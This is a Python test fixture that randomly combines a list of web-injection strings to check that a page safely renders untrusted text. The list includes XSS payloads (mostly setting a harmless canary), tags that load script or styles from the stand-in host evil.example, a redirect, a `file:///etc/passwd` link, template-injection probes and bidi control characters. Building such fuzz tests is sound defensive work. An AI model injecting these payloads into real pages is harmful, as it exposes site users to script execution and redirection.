"""Texts that would act, hide or overflow if a page let them, drawn at random."""
import random
import unicodedata

# Each piece that runs as a script sets `canary` in the window.
PIECES = [
    "<script>canary=1</script>", "</script><script>canary=1</script>", "<script src=/page/script.js></script>",
    "<script src=//evil.example/x.js></script>", "</title><script>canary=1</script>", "</textarea><script>canary=1</script>",
    "</style><script>canary=1</script>", "<img src=x onerror=canary=1>", "<svg/onload=canary=1>", "<body onload=canary=1>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>", "<input autofocus onfocus=canary=1>",
    "<details open ontoggle=canary=1>", "<video><source onerror=canary=1></video>", "<math><mi//xlink:href=\"javascript:canary=1\">",
    "\" onmouseover=\"canary=1", "' autofocus onfocus='canary=1", "\"><svg onload=canary=1>", "` onclick=`canary=1",
    "javascript:canary=1", "JaVaScRiPt:canary=1", "java\tscript:canary=1", "data:text/html,<script>canary=1</script>",
    "vbscript:canary=1", "<a href=javascript:canary=1>x</a>", "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<object data=//evil.example/></object>",
    "[x](javascript:canary=1)", "[x](JAVASCRIPT&colon;canary=1)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](//evil.example)",
    "[x](https://evil.example/\"onclick=\"canary=1)", "[x](https://u:p@evil.example/)", "[x](http://[::1]/)", "[x](file:///etc/passwd)",
    "[x](tel:1)", "[x][y]\n\n[y]: javascript:canary=1", "![i](https://evil.example/x.png)", "![i](javascript:canary=1)",
    "![i](x\" onerror=\"canary=1)", "<https://evil.example/?\"x>", "<javascript:canary=1>", "https://evil.example/<b>",
    "{{constructor.constructor('canary=1')()}}", "${canary=1}", "#{canary=1}", "<%= canary=1 %>", "{% raw %}", "{{7*7}}", "[[x]]",
    "</main>", "</body></html>", "</ol></div></dl>", "</template>", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=canary=1>'>",
    "]]>", "<![CDATA[", "<!--", "-->", "--!>", "<!-->", "<!doctype html>", "<?xml?>", "&lt;b&gt;", "&#60;script&#62;", "&amp;", "&nbsp",
    "*{background:url(//evil.example/)}", "expression(canary=1)", "@import '//evil.example/x.css';", "color:red;position:fixed",
    "```\n</code></pre><script>canary=1</script>", "```", "|a|\n|-|\n|<img src=x onerror=canary=1>|", "> <i>\n\n- [ ] <b>", "# <h1>", "---",
    "1. a\n   - b", "<a name=main id=main>", "<div id=main>", "*_~`[<", "**bold", "~~", "\\", "\\<b>", "&&&", "'", "\"", "<", ">", "%00", "%3Cscript%3E",
    "\u202eevil\u2066", "\u2067\u2068\u2069\u202a\u202b\u202c\u202d", "\u200e\u200f\u061c", "\u200b\u2060\ufeff", "\u2028\u2029",
    "\0", "\1\x1b[31m\x7f\x9b", "\r\n", "\t", "\x0c\x0b", "\U000e0001\U000e0041", "\u200c\u200d\xad", "a\u0301\u0301\u0301\u0301", "\ufffd\uffff",
    "العربية", "עברית", "検査中", "👩‍👩‍👧‍👦", "ﷺ", "𝖘𝖈𝖗𝖎𝖕𝖙", "１＜２", "ok", "error: no", "../../etc", "..", "a/b?c=d#e", "id=1&x=2", "null", "0", "-1",
    "__proto__", "constructor", "toString", "{\"type\":\"log\"}", "event: gate\ndata: x\n\n", "id: 1",
]

ENDS = ["", " ", "\n", "\n\n", "\t", "&", "<", "\0"]


class HostileTexts:
    """A source of texts. The same seed gives the same texts."""

    def __init__(self, seed):
        self.random, self.count = random.Random(seed), 0

    def text(self, is_lone=False):
        """Returns the next text; one with `is_lone` may have a surrogate without its pair."""
        self.count += 1
        pieces = [self._piece() for _ in range(self.random.randint(1, 4))]
        if is_lone and self.random.random() < 0.1:
            pieces.append(self.random.choice(["\ud800", "\udfff", "\udc00\ud800"]))
        return self.random.choice(ENDS).join(pieces)

    def question(self):
        """Returns a text that is not blank."""
        return "? " + self.text()

    def name(self):
        """Returns a text that no other text equals, and that the state stores as it is: at most 500 bytes without U+0000."""
        text = self.text()[:120].replace("\0", "")
        return f"{text}~{self.count}"

    def texts(self, count, is_lone=False):
        return [self.text(is_lone) for _ in range(count)]

    def _piece(self):
        choice = self.random.random()
        if choice < 0.8:
            return self.random.choice(PIECES)
        if choice < 0.85:
            return self.random.choice("xW-_/.é界") * self.random.choice([1, 70, 500, 3000])
        # The planes that all of the programs concerned know alike: characters before Unicode 6.
        return "".join(chr(self.random.choice([
            self.random.randint(0, 0xff), self.random.randint(0x2000, 0x206f), self.random.randint(0x3041, 0x3096)]))
            for _ in range(self.random.randint(1, 12)))


def visible(text):
    """Returns the text as the page shows it: hidden characters by their numbers."""
    def shown(character):
        hides = unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp") and character not in "\n\t\u200c\u200d\xad"
        return f"<U+{ord(character):04X}>" if hides else character
    return "".join(map(shown, text))
